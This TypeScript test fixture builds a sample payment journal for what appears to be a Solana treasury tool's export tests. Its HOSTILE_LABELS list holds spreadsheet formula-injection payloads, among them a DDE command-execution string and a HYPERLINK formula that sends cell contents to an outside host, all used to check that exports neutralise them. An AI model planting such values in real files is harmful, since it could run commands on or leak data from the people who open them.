import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { onTestFinished } from 'vitest'
import { lamports } from '../../../src/core/amount/lamports.ts'
import { slot } from '../../../src/core/chain/slot.ts'
import { planNativePayments } from '../../../src/core/plan/native-payment.ts'
import { planNativeSweep } from '../../../src/core/plan/native.ts'
import { paymentIntents } from '../../../src/main/pay/intent/payment-intents.ts'
import { intentsOf } from '../../../src/main/pay/plan/sweep.ts'
import { addressOf, blockhashOf, blockOf, draftOf, movementOf, signedOf, TOKEN } from '../journal/samples.ts'
import { openNewJournal } from '../../support/new-journal.ts'

/** What somebody could type as a label to have a spreadsheet do something, or to break the file. */
export const HOSTILE_LABELS = [
  '=HYPERLINK("http://example.invalid/?"&A1,"pay here")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝1+1',
  'a;=1+1',
  'two\r\nlines, "quoted"',
  'Zoë 柏林 🦔',
] as const

export const NOW = Date.UTC(2026, 0, 31, 12, 30, 15, 250)

/** A folder with a journal of a little of everything, the same each time; both go when the test ends. */
export async function openSampleJournal({ now = () => NOW }: { readonly now?: () => number } = {}) {
  const folder = mkdtempSync(join(tmpdir(), 'strongroom-export-'))
  const journal = await openNewJournal({ path: join(folder, 'journal.sqlite'), now })
  onTestFinished(async () => {
    await journal.close()
    rmSync(folder, { recursive: true, force: true })
  })
  await journal.write('sample', async (tx) => {
    await tx.openCursor({ slot: slot(100), blockhash: blockhashOf(100) })
    await tx.listMint({ mint: addressOf('mint'), tokenProgram: addressOf('token program'), decimals: 6, label: 'Dollar' })
    await tx.addAccounts(HOSTILE_LABELS.map((label, index) => ({ address: ownerAt(index), role: 'deposit', path: null, label })))
    await tx.recordBlock(
      blockOf(
        101,
        HOSTILE_LABELS.map((_, index) => movementOf({ name: `in ${index}`, owner: ownerAt(index), after: 2n ** 63n + BigInt(index) })),
      ),
    )
    const intents = intentsOf(samplePlan(), 'sweep')
    await tx.addDecision({ id: 'sweep', summary: null, intents })
    for (const { id } of intents.slice(0, 1)) {
      const attemptId = await tx.storeSigned(signedOf(await tx.addDraft(draftOf(id)), id))
      await tx.addBroadcast({ attemptId, node: 'left' })
      await tx.addEvidence({ attemptId, who: 'left', what: 'landed', slot: slot(103), commitment: 'confirmed', detail: null })
    }
    await tx.addDecision({ id: 'payout', kind: 'payment', summary: null, intents: paymentIntents(samplePayout(), 'payout') })
    // Last: what left is in nothing that was signed here, and closes sending.
    await tx.recordBlock({
      ...blockOf(102, [
        movementOf({ name: 'token', account: addressOf('token account'), asset: TOKEN, after: 1_500_000n }),
        movementOf({ name: 'dust', owner: addressOf('dusty'), after: 3n, verdict: { kind: 'no-credit', reason: 'dust' } }),
        movementOf({ name: 'out', owner: ownerAt(0), before: 2n ** 63n, after: 890_880n, verdict: { kind: 'outgoing' } }),
        movementOf({
          name: 'reward',
          signature: null,
          owner: addressOf('rewarded'),
          after: 5n,
          verdict: { kind: 'credit', class: 'reward' },
        }),
      ]),
      origins: {
        blockTimeSeconds: 1_795_176_318n,
        senders: [{ kind: 'one', address: addressOf('payer outside') }, { kind: 'several' }, null, null],
      },
    })
    for (const [index, label] of HOSTILE_LABELS.entries())
      await tx.addRecipient({ address: addressOf(`payee ${index}`), label, note: label })
    for (const label of [null, '=1+1'])
      await tx.keepNonce({ address: addressOf(`nonce ${label}`), authority: addressOf('treasury'), label })
  })
  return { folder, journal }
}

function ownerAt(index: number) {
  return addressOf(`owner ${index}`)
}

/** Eleven accounts: one transaction of ten and one of one. */
function samplePlan() {
  const treasury = { address: addressOf('treasury'), lamports: lamports(1_000_000_000n) }
  return planNativeSweep({
    sources: HOSTILE_LABELS.map((_, index) => ({ address: ownerAt(index), lamports: lamports(5_000_000n), plain: true })),
    mode: 'keep-minimum',
    destination: treasury,
    treasury,
    terms: { feeRule: { kind: 'signatures', lamportsPerSignature: lamports(5_000n) } as const, rentMinimumLamports: lamports(890_880n) },
    options: { version: 'legacy', lifetime: { kind: 'blockhash' } },
  })
}

/** A reference is what somebody else wrote into a file. */
/** References begin with that text. */
export function samplePayout(before = '') {
  return planNativePayments({
    payees: HOSTILE_LABELS.map((label, index) => ({
      key: `${before}${label}`,
      recipient: addressOf(`payee ${index}`),
      amount: 1_500_000_000n + BigInt(index),
      recipientLamports: lamports(0n),
    })),
    payer: { address: addressOf('treasury'), lamports: lamports(100_000_000_000n) },
    allowUnfunded: true,
    terms: { feeRule: { kind: 'signatures', lamportsPerSignature: lamports(5_000n) } as const, rentMinimumLamports: lamports(890_880n) },
    options: { version: 'legacy', lifetime: { kind: 'blockhash' } },
  })
}
